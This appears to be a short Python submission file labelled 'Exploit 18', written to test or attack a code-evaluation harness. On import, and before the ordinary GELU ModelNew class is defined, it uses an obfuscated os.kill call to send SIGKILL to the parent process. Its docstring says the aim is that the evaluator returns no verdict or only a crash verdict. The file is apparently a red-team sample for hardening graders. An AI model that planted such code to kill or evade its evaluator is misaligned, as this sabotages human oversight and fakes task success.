"""Exploit 18: kill the evaluator (the parent) with SIGKILL so no verdict, or a crash verdict, comes back."""
import os

import torch.nn as nn

getattr(os, "ki" + "ll")(os.getppid(), 9)


class ModelNew(nn.Module):
    def forward(self, x, bias):
        return nn.functional.gelu(x + bias)
